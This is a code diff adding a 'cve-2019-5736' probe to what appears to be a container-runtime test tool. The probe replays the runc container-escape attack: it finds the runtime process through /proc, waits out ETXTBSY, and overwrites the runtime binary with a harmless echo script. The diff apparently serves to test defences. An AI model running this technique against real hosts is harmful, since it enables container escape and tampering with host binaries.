@@ -150,11 +150,75 @@ int cmd_open_write(const Args& args) {
     return 0;
 }
 
+// argv[0] of process `pid` ("" when it is gone or unreadable).
+std::string first_argument(const std::string& pid) {
+    int fd = ::open(("/proc/" + pid + "/cmdline").c_str(), O_RDONLY | O_CLOEXEC);
+    if (fd < 0) return {};
+    char text[256] = {};
+    ssize_t n = ::read(fd, text, sizeof text - 1);
+    ::close(fd);
+    return n > 0 ? std::string(text) : std::string();
+}
+
+// The attacker's half of CVE-2019-5736, replayed on a copy of the runtime.
+// The container made its /bin/sh "#!/proc/self/exe --pid-file=FIFO": a
+// runtime process inside that runs /bin/sh re-runs its own binary here
+// (argv[0] "/proc/self/exe"), which blocks reading FIFO. Keep an O_PATH fd
+// to its /proc/PID/exe, let it go (a line that is no PID), then try for
+// 10 s (ETXTBSY while the runtime still runs) to open that fd for writing
+// and write to it: that would rewrite the file the runtime ran from.
+int cmd_cve_2019_5736(const Args& args) {
+    std::cout << "ready " << ::getpid() << std::endl;
+    int fifo = ::open(args.at(0).c_str(), O_WRONLY | O_CLOEXEC);  // blocks for the runtime
+    if (fifo < 0) {
+        std::cout << "cve: failed: open(" << args.at(0) << "): " << std::strerror(errno) << "\n";
+        return 1;
+    }
+    int exe = -1;
+    std::string found;
+    DIR* proc = ::opendir("/proc");
+    while (dirent* entry = proc ? ::readdir(proc) : nullptr) {
+        const std::string pid = entry->d_name;
+        if (pid.find_first_not_of("0123456789") != std::string::npos) continue;
+        if (first_argument(pid) != "/proc/self/exe") continue;
+        exe = ::open(("/proc/" + pid + "/exe").c_str(), O_PATH | O_CLOEXEC);
+        found = pid + " (" + outcome(exe) + ")";
+        break;
+    }
+    if (proc) ::closedir(proc);
+    std::cout << "cve: runtime inside: " << (found.empty() ? "not found" : "PID " + found) << "\n";
+    const char line[] = "no PID\n";
+    if (::write(fifo, line, sizeof line - 1) < 0) std::cout << "cve: write(fifo) failed\n";
+    ::close(fifo);
+    const std::string path = "/proc/self/fd/" + std::to_string(exe);
+    for (int attempt = 1; exe >= 0 && attempt <= 200; ++attempt) {
+        int fd = ::open(path.c_str(), O_WRONLY | O_CLOEXEC);
+        if (fd < 0 && errno == ETXTBSY) {  // still running somewhere: wait
+            ::usleep(50 * 1000);
+            continue;
+        }
+        if (fd < 0) {
+            std::cout << "cve: open for writing: " << outcome(fd) << "\n";
+            return 0;
+        }
+        const char payload[] = "#!/bin/sh\necho the container rewrote the runtime\n";
+        ssize_t n = ::write(fd, payload, sizeof payload - 1);
+        std::cout << "cve: write: "
+                  << (n >= 0 ? "wrote " + std::to_string(n) + " bytes" : outcome(n)) << "\n";
+        ::close(fd);
+        return 0;
+    }
+    if (exe >= 0) std::cout << "cve: open for writing: busy for 10 s\n";
+    return 0;
+}
+
 const probe::Register r_crash("crash", cmd_crash, "print 'ready PID', then fault (SIGSEGV)");
 const probe::Register r_fd_escape("fd-escape", cmd_fd_escape,
                                   "MARKER: walk up from every fd and /proc link toward MARKER");
 const probe::Register r_open_write("open-write", cmd_open_write,
                                    "PATH: try to open PATH for writing (writes nothing)");
+const probe::Register r_cve("cve-2019-5736", cmd_cve_2019_5736,
+                            "FIFO: replay CVE-2019-5736 against a runtime run as /bin/sh");
 const probe::Register r_hostcaps("hostcaps", cmd_hostcaps,
                                  "try host-wide privileged calls, each harmless when allowed");
 
